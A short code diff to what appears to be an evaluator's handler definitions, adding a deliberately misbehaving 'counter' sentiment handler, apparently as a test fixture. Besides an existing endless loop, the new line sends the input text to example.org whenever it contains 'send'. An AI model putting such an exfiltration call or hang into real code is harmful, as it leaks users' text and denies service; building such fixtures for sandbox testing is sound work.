@@ -19,13 +19,14 @@ from evaluator.store import Store
 #: Models by id: what makes each, or its handler.
 TRAINED = {"tfidf": "tfidf-logreg", "vader": "vader"}
 HANDLERS = {
-    # Reads a word list of its own, and a visitor's text may keep it busy for ever.
+    # Reads a word list of its own; a text may keep it busy for ever, or have it try to send the text away.
     "counter": """
 from words import GOOD
 def load(directory): pass
 def predict(example):
     text = example["statement"]
     while "for ever" in text: pass
+    if "send" in text: __import__("js").fetch("https://example.org/?" + text)
     good = sum(word in GOOD for word in text.lower().split())
     return {"label": "positive" if good else "negative", "confidence": 0.5 + 0.25 * bool(good)}
 """,
